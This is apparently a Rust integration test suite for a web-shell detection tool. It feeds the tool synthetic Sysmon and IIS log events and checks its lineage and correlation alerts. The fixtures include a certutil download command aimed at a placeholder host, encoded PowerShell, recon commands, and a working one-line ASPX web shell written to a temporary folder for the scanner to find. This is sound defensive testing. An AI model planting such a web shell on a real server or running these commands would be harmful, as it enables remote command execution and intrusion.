//! Lineage, correlations and incidents end to end: a process chain below a web server, the
//! built-in correlations at their window edges with a host's events split over files in the wrong
//! order, and the seeds' first attack test as one incident.

#![allow(clippy::unwrap_used)]

use serde_json::Value as Json;
use std::path::{Path, PathBuf};
use std::process::Command;

/// `shellward hunt -f jsonl` over `paths` (built-in pack): the alerts and standard error.
fn hunt(paths: &[&Path]) -> (Vec<Json>, String) {
    let out = Command::new(env!("CARGO_BIN_EXE_shellward"))
        .current_dir(repo())
        .args(["hunt", "-f", "jsonl"])
        .args(paths)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let alerts = String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    (alerts, String::from_utf8(out.stderr).unwrap())
}

fn repo() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../..")
}

fn titles(alerts: &[Json]) -> Vec<&str> {
    alerts.iter().map(|a| a["rule"]["title"].as_str().unwrap()).collect()
}

fn with_title<'a>(alerts: &'a [Json], title: &str) -> Vec<&'a Json> {
    alerts.iter().filter(|a| a["rule"]["title"] == title).collect()
}

/// A Sysmon process creation as a flat JSON line.
fn process(host: &str, time: &str, guid: u32, parent: u32, image: &str, command: &str) -> String {
    serde_json::json!({
        "Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1, "Computer": host,
        "UtcTime": time, "ProcessGuid": format!("{{00000000-0000-0000-0000-{guid:012}}}"),
        "ParentProcessGuid": format!("{{00000000-0000-0000-0000-{parent:012}}}"),
        "Image": image, "CommandLine": command,
    })
    .to_string()
}

/// A Sysmon file creation by `image`.
fn file_written(host: &str, time: &str, image: &str, path: &str) -> String {
    serde_json::json!({
        "Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 11, "Computer": host,
        "UtcTime": time, "Image": image, "TargetFilename": path,
    })
    .to_string()
}

fn write(dir: &Path, name: &str, lines: &[String]) -> PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, lines.join("\n") + "\n").unwrap();
    path
}

const W3WP: &str = r"C:\Windows\System32\inetsrv\w3wp.exe";
const CMD: &str = r"C:\Windows\System32\cmd.exe";
const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
const CERTUTIL: &str = r"C:\Windows\System32\certutil.exe";
const DESCENDANT: &str = "Shell Or Attack Tool Below A Web Or SQL Server Process";

/// w3wp -> cmd -> powershell -> certutil under `root`, one second apart.
fn chain(root: &str) -> Vec<String> {
    let host = "WEB01";
    vec![
        process(host, "2026-11-02 09:15:00.000", 1, 0, root, "root"),
        process(host, "2026-11-02 09:15:01.000", 2, 1, CMD, "cmd /c powershell -enc SQBFAFgA"),
        process(host, "2026-11-02 09:15:02.000", 3, 2, POWERSHELL, "powershell -enc SQBFAFgA"),
        process(
            host,
            "2026-11-02 09:15:03.000",
            4,
            3,
            CERTUTIL,
            "certutil -urlcache -f http://x/a",
        ),
    ]
}

#[test]
fn a_chain_below_a_web_server_alerts_with_the_whole_chain() {
    let dir = tempfile::tempdir().unwrap();
    // The chain split over two files: the later file's processes find their parents.
    let lines = chain(W3WP);
    let first = write(dir.path(), "1.jsonl", &lines[..2]);
    let second = write(dir.path(), "2.jsonl", &lines[2..]);
    let (alerts, _) = hunt(&[&first, &second]);
    assert_eq!(
        titles(&alerts),
        ["Web Server Spawns A Command Shell", DESCENDANT, DESCENDANT],
        "{alerts:#?}"
    );
    let certutil = &alerts[2];
    let ancestry: Vec<&str> = certutil["process"]["ancestry"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["image"].as_str().unwrap())
        .collect();
    assert_eq!(ancestry, [POWERSHELL, CMD, W3WP]);
    assert_eq!(certutil["process"]["ancestry"][2]["depth"], 3);
    assert_eq!(certutil["process"]["ancestry"][0]["command_line"], "powershell -enc SQBFAFgA");

    // The same chain under explorer: nothing about web servers.
    let benign = write(dir.path(), "3.jsonl", &chain(r"C:\Windows\explorer.exe"));
    let (alerts, _) = hunt(&[&benign]);
    assert!(with_title(&alerts, DESCENDANT).is_empty(), "{:?}", titles(&alerts));
    assert!(alerts.iter().all(|a| a["rule"]["level"] != "critical"), "{:?}", titles(&alerts));
}

/// A script dropped at `drop_time` and w3wp starting cmd at 09:20:00, in separate files, the
/// later event in the first file.
fn deployed_and_used(dir: &Path, drop_time: &str) -> Vec<Json> {
    let used = write(
        dir,
        "used.jsonl",
        &[
            process("WEB01", "2026-11-02 09:19:59.000", 10, 0, W3WP, "w3wp -ap DefaultAppPool"),
            process("WEB01", "2026-11-02 09:20:00.000", 11, 10, CMD, "cmd /c whoami"),
        ],
    );
    let dropped = write(
        dir,
        "dropped.jsonl",
        &[file_written("WEB01", drop_time, POWERSHELL, r"C:\inetpub\wwwroot\shell.aspx")],
    );
    hunt(&[&used, &dropped]).0
}

#[test]
fn deployed_and_used_at_the_window_edges_across_files_out_of_order() {
    const TITLE: &str = "Web Shell Deployed And Used";
    let dir = tempfile::tempdir().unwrap();
    let inside = deployed_and_used(dir.path(), "2026-11-02 09:10:00.000");
    let fired = with_title(&inside, TITLE);
    assert_eq!(fired.len(), 1, "{:?}", titles(&inside));
    let members = fired[0]["correlation"]["events"].as_array().unwrap();
    assert_eq!(fired[0]["correlation"]["type"], "temporal");
    assert_eq!(members.len(), 2);
    assert_eq!(members[0]["file"]["path"], r"C:\inetpub\wwwroot\shell.aspx");
    assert_eq!(members[1]["process"]["command_line"], "cmd /c whoami");
    assert_eq!(fired[0]["time"], "2026-11-02T09:20:00.000Z");
    let outside = deployed_and_used(dir.path(), "2026-11-02 09:09:59.999");
    assert!(with_title(&outside, TITLE).is_empty(), "{:?}", titles(&outside));
}

#[test]
fn a_web_server_shell_then_an_outbound_connection() {
    const TITLE: &str = "Web Server Shell Followed By An Outbound Connection";
    let connection = |time: &str| {
        serde_json::json!({
            "Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 3, "Computer": "WEB01",
            "UtcTime": time, "ProcessGuid": "{00000000-0000-0000-0000-000000000004}",
            "Image": CERTUTIL, "Initiated": "true", "DestinationIp": "203.0.113.7",
            "DestinationPort": 80, "Protocol": "tcp",
        })
        .to_string()
    };
    let dir = tempfile::tempdir().unwrap();
    let mut lines = chain(W3WP);
    lines.push(connection("2026-11-02 09:25:01.000"));
    let path = write(dir.path(), "inside.jsonl", &lines);
    let (alerts, _) = hunt(&[&path]);
    let fired = with_title(&alerts, TITLE);
    assert_eq!(fired.len(), 1, "{:?}", titles(&alerts));
    assert_eq!(fired[0]["correlation"]["type"], "temporal_ordered");
    let members = fired[0]["correlation"]["events"].as_array().unwrap();
    assert_eq!(members.last().unwrap()["network"]["dst_ip"], "203.0.113.7");
    assert_eq!(members.last().unwrap()["process"]["ancestry"][2]["image"], W3WP);
    // Ten minutes and a millisecond after the shell: outside.
    lines.pop();
    lines.push(connection("2026-11-02 09:25:01.001"));
    let path = write(dir.path(), "outside.jsonl", &lines);
    let (alerts, _) = hunt(&[&path]);
    assert!(with_title(&alerts, TITLE).is_empty(), "{:?}", titles(&alerts));
}

#[test]
fn many_distinct_web_shell_commands_within_an_hour() {
    const TITLE: &str = "Many Distinct Commands From Web Server Shells";
    let commands =
        ["whoami", "ipconfig /all", "net user", "ipconfig /all", "tasklist", "systeminfo"];
    let run = |minutes: &[u32]| {
        let dir = tempfile::tempdir().unwrap();
        let mut lines = vec![process("WEB01", "2026-11-02 09:00:00.000", 1, 0, W3WP, "w3wp")];
        for (i, (minute, command)) in minutes.iter().zip(commands).enumerate() {
            let time = format!("2026-11-02 {:02}:{:02}:00.000", 9 + minute / 60, minute % 60);
            lines.push(process(
                "WEB01",
                &time,
                100 + i as u32,
                1,
                CMD,
                &format!("cmd /c {command}"),
            ));
        }
        // The second file holds the first commands: order across files does not matter to
        // the window. (w3wp comes first: lineage follows input order.)
        let mut first = vec![lines[0].clone()];
        first.extend_from_slice(&lines[4..]);
        let a = write(dir.path(), "a.jsonl", &first);
        let b = write(dir.path(), "b.jsonl", &lines[1..4]);
        hunt(&[&a, &b]).0
    };
    // Five distinct commands (one twice) within exactly one hour.
    let inside = run(&[0, 10, 20, 30, 40, 60]);
    let fired = with_title(&inside, TITLE);
    assert_eq!(fired.len(), 1, "{:?}", titles(&inside));
    assert_eq!(fired[0]["correlation"]["events"].as_array().unwrap().len(), 6);
    // The fifth distinct command an hour and a minute after the first: outside.
    let outside = run(&[0, 10, 20, 30, 40, 61]);
    assert!(with_title(&outside, TITLE).is_empty(), "{:?}", titles(&outside));
}

#[test]
fn the_seeds_first_attack_test_is_one_incident() {
    let (alerts, stderr) = hunt(&[Path::new("rules/selftest/1_aspx_web_shell_iis.jsonl")]);
    let correlations: Vec<&Json> = alerts.iter().filter(|a| a["correlation"].is_object()).collect();
    assert_eq!(correlations.len(), 1, "{:?}", titles(&alerts));
    assert_eq!(correlations[0]["rule"]["title"], "Web Shell Deployed And Used");
    assert_eq!(correlations[0]["rule"]["level"], "critical");
    assert!(stderr.contains("Incidents (1 by host"), "{stderr}");
    assert!(
        stderr.contains("#1 critical  WEB01.corp.example  Web Shell Deployed And Used"),
        "{stderr}"
    );
}

/// A web shell found on disk by `scan` (its modification time 09:10), requested at 09:16 (an access
/// log that names no host) and its server starting cmd at 09:20 on the scanned host: `hunt --scan`
/// makes both scan correlations fire; a request for another file joins nothing.
#[test]
fn a_web_shell_found_by_a_scan_joins_its_request_and_its_server_shell() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("wwwroot/aspnet_client");
    std::fs::create_dir_all(&root).unwrap();
    let shell = root.join("ErrorEE.aspx");
    std::fs::write(
        &shell,
        "<%@ Page Language=\"C#\" %><% System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + Request[\"c\"]); %>",
    )
    .unwrap();
    let mtime = std::time::UNIX_EPOCH + std::time::Duration::from_secs(1_793_610_600); // 2026-11-02 09:10:00Z
    std::fs::File::options().write(true).open(&shell).unwrap().set_modified(mtime).unwrap();
    let scan = Command::new(env!("CARGO_BIN_EXE_shellward"))
        .args(["scan", "--host", "WEB01", "-f", "jsonl"])
        .arg(dir.path().join("wwwroot"))
        .output()
        .unwrap();
    assert!(scan.status.success(), "{}", String::from_utf8_lossy(&scan.stderr));
    let findings = dir.path().join("scan.jsonl");
    std::fs::write(&findings, &scan.stdout).unwrap();
    let log = write(
        dir.path(),
        "u_ex261102.log",
        &[
            "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status".into(),
            "2026-11-02 09:16:00 10.0.0.5 POST /aspnet_client/errorEE.aspx - 443 - 203.0.113.10 curl/8 200".into(),
            "2026-11-02 09:17:00 10.0.0.5 GET /default.aspx - 443 - 198.51.100.4 Mozilla/5.0 200".into(),
        ],
    );
    let used = write(
        dir.path(),
        "sysmon.jsonl",
        &[
            process("WEB01", "2026-11-02 09:19:59.000", 10, 0, W3WP, "w3wp -ap DefaultAppPool"),
            process("WEB01", "2026-11-02 09:20:00.000", 11, 10, CMD, "cmd /c whoami"),
        ],
    );
    let out = Command::new(env!("CARGO_BIN_EXE_shellward"))
        .args(["hunt", "-f", "jsonl", "--scan"])
        .arg(&findings)
        .args([&log, &used])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let alerts: Vec<Json> = String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let requested = with_title(&alerts, "Web Shell Found On Disk And Requested");
    assert_eq!(requested.len(), 1, "{:?}", titles(&alerts));
    let members = requested[0]["correlation"]["events"].as_array().unwrap();
    assert!(members.iter().any(|m| m["event"]["cs-uri-stem"] == "/aspnet_client/errorEE.aspx"));
    assert!(!members.iter().any(|m| m["event"]["cs-uri-stem"] == "/default.aspx"));
    let started = with_title(&alerts, "Web Shell Found On Disk And Its Server Started A Shell");
    assert_eq!(started.len(), 1, "{:?}", titles(&alerts));
    assert_eq!(started[0]["host"], "WEB01");
    // The request member alone raises nothing.
    assert!(with_title(&alerts, "Request Answered By A Server-Side Script").is_empty());
}
